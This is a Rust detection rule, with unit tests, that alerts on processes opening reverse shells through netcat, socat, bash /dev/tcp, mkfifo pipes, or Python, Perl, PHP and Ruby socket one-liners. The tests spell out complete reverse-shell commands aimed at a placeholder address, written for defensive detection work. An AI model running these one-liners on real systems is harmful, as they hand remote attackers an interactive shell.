//! Vigil rule `reverse-shell`: a process that hands a shell to a remote peer
//! (MITRE ATT&CK T1059, T1071): netcat with `-e`/`-c`, socat joining an
//! `exec:`/`system:` address to a TCP one, a shell script redirecting to
//! bash's `/dev/tcp/`, a Python/Perl/Ruby/PHP one-liner that connects a
//! socket and runs a shell over it, or a `mkfifo` pipe looped through netcat.
//! It fires on the host and in containers alike.

use vigil_sdk::prelude::*;
use vigil_sdk::strip_version;

const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
const INTERPRETERS: &[&str] = &["python", "perl", "ruby", "php"];

/// A reverse shell was started: a shell whose input and output go to a remote host.
#[rule(
    id = "reverse-shell",
    subscribe = [ProcessExec],
    tags = ["network", "mitre_execution", "T1059", "mitre_command_and_control", "T1071"]
)]
pub fn detect(event: &Event) -> Option<Alert> {
    let process = event.process()?;
    let technique = technique(&process)?;
    let command = process.cmdline();
    let alert = match event.container() {
        Some(c) => Alert::critical(format!(
            "Reverse shell via {technique} in container (command={command} container={} image={})",
            c.name(),
            c.image()
        ))
        .tag("container"),
        None => Alert::critical(format!("Reverse shell via {technique} on host (command={command} container=host)")),
    };
    Some(alert.field("technique", technique))
}

/// How `process` opens a reverse shell, if it does.
fn technique(process: &Process) -> Option<&'static str> {
    let name = process.program();
    if NETCATS.contains(&name) {
        process.args().any(netcat_exec_flag).then_some("netcat -e")
    } else if name == "socat" {
        let exec = process.args().any(|a| starts_with_ci(a, "exec:") || starts_with_ci(a, "system:"));
        let net = process
            .args()
            .any(|a| a.contains(':') && ["tcp", "udp", "openssl", "ssl"].iter().any(|p| starts_with_ci(a, p)));
        (exec && net).then_some("socat exec")
    } else if process.is_shell() {
        let script = process.shell_script()?;
        if script.contains("/dev/tcp/") || script.contains("/dev/udp/") {
            Some("/dev/tcp redirection")
        } else if script.contains("mkfifo") && words(script).any(|w| NETCATS.contains(&w)) {
            Some("mkfifo and netcat")
        } else {
            None
        }
    } else if INTERPRETERS.contains(&strip_version(name)) {
        let inline = process.args().any(|a| matches!(a, "-c" | "-e" | "-r"));
        (inline && process.args().any(socket_shell_one_liner)).then_some("scripted socket")
    } else {
        None
    }
}

/// `-e`, `-c`, `--exec`, `--sh-exec`, `--exec=...`, `-e/bin/sh` or a cluster such as `-nve`.
fn netcat_exec_flag(arg: &str) -> bool {
    if let Some(long) = arg.strip_prefix("--") {
        return ["exec", "sh-exec"]
            .iter()
            .any(|f| long.strip_prefix(f).is_some_and(|r| r.is_empty() || r.starts_with('=')));
    }
    let Some(short) = arg.strip_prefix('-') else {
        return false;
    };
    if short.starts_with(['e', 'c']) && short[1..].starts_with('/') {
        return true;
    }
    !short.is_empty() && short.bytes().all(|b| b.is_ascii_alphabetic()) && short.ends_with(['e', 'c'])
}

/// A one-liner that connects a socket and runs a shell (or dup2s onto it).
fn socket_shell_one_liner(code: &str) -> bool {
    let connects = (code.contains("socket") && code.contains("connect"))
        || ["fsockopen", "TCPSocket", "IO::Socket::INET"].iter().any(|s| code.contains(s));
    connects
        && ["dup2", "exec", "/bin/sh", "/bin/bash", "subprocess", "pty.spawn", "popen", "system"]
            .iter()
            .any(|s| code.contains(s))
}

/// The words of a shell script, as program basenames: `cat /tmp/f|/usr/bin/nc x` → `cat`, `f`, `nc`, `x`.
fn words(script: &str) -> impl Iterator<Item = &str> {
    script.split(|c: char| c.is_ascii_whitespace() || "|;&<>()'\"`".contains(c)).map(vigil_sdk::basename)
}

fn starts_with_ci(s: &str, prefix: &str) -> bool {
    s.get(..prefix.len()).is_some_and(|p| p.eq_ignore_ascii_case(prefix))
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_sdk::testing::{exec, run};

    fn alerts<'a>(exe: &str, argv: impl IntoIterator<Item = &'a str>) -> Vec<Alert> {
        run(detect, [exec(exe, argv)])
    }

    #[test]
    fn netcat_with_exec_alerts() {
        for argv in [
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"][..],
            &["nc", "10.0.0.1", "4444", "-e", "/bin/bash"],
            &["nc", "-nve", "/bin/sh", "10.0.0.1", "4444"],
            &["ncat", "--sh-exec", "bash -i", "10.0.0.1", "4444"],
            &["ncat", "--exec=/bin/sh", "10.0.0.1", "4444"],
            &["nc", "-c", "sh", "10.0.0.1", "4444"],
        ] {
            assert_eq!(alerts("/usr/bin/nc", argv.iter().copied()).len(), 1, "{argv:?}");
        }
        let a = alerts("/bin/nc.traditional", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
        assert_eq!(a[0].priority, Priority::Critical);
        assert_eq!(
            a[0].message,
            "Reverse shell via netcat -e on host (command=nc -e /bin/sh 10.0.0.1 4444 container=host)"
        );
        assert!(!a[0].has_tag("container"));
    }

    #[test]
    fn in_a_container_says_so() {
        let a =
            run(detect, [exec("/bin/busybox", ["nc", "10.0.0.1", "4444", "-e", "sh"]).container("web", "alpine:3.19")]);
        assert_eq!(a.len(), 1);
        assert!(a[0].message.contains("in container (command=nc 10.0.0.1 4444 -e sh container=web image=alpine:3.19)"));
        assert!(a[0].has_tag("container"));
    }

    #[test]
    fn socat_exec_to_tcp_alerts() {
        let a = alerts("/usr/bin/socat", ["socat", "TCP:10.0.0.1:4444", "EXEC:'bash -li',pty,stderr,setsid"]);
        assert_eq!(a.len(), 1);
        assert!(a[0].fields.contains(&("technique".into(), "socat exec".into())));
        assert_eq!(alerts("/usr/bin/socat", ["socat", "tcp-listen:4444,fork", "system:sh"]).len(), 1);
    }

    #[test]
    fn dev_tcp_and_mkfifo_scripts_alert() {
        assert_eq!(alerts("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]).len(), 1);
        assert_eq!(alerts("/bin/sh", ["sh", "-ec", "exec 5<>/dev/udp/10.0.0.1/53"]).len(), 1);
        let fifo = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|/usr/bin/nc 10.0.0.1 4444 >/tmp/f";
        assert_eq!(alerts("/bin/sh", ["sh", "-c", fifo]).len(), 1);
    }

    #[test]
    fn scripted_socket_one_liners_alert() {
        let py = r#"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])"#;
        let perl = r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};"#;
        let php = r#"$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");"#;
        let ruby = r#"f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#;
        assert_eq!(alerts("/usr/bin/python3.11", ["python3", "-c", py]).len(), 1);
        assert_eq!(alerts("/usr/bin/perl", ["perl", "-e", perl]).len(), 1);
        assert_eq!(alerts("/usr/bin/php", ["php", "-r", php]).len(), 1);
        assert_eq!(alerts("/usr/bin/ruby", ["ruby", "-rsocket", "-e", ruby]).len(), 1);
    }

    #[test]
    fn ordinary_network_and_shell_use_does_not_alert() {
        let health = r#"import socket;s=socket.socket();s.connect(("db",5432));print("ok")"#;
        let events = [
            exec("/usr/bin/nc", ["nc", "-zv", "db", "5432"]),
            exec("/usr/bin/nc", ["nc", "-l", "8080"]),
            exec("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"]),
            exec("/usr/bin/socat", ["socat", "exec:ls", "-"]),
            exec("/bin/bash", ["bash", "-c", "echo hi > /dev/null"]),
            exec("/bin/bash", ["bash", "/opt/dev/tcp/run.sh"]),
            exec("/bin/sh", ["sh", "-c", "mkfifo /tmp/q && cat /tmp/q"]),
            exec("/usr/bin/python3", ["python3", "-c", health]),
            exec("/usr/bin/python3", ["python3", "/srv/socket_connect_exec.py"]),
            exec("/usr/bin/curl", ["curl", "-e", "http://ref", "http://x"]),
        ];
        let alerts = run(detect, events);
        assert!(alerts.is_empty(), "{alerts:?}");
    }
}
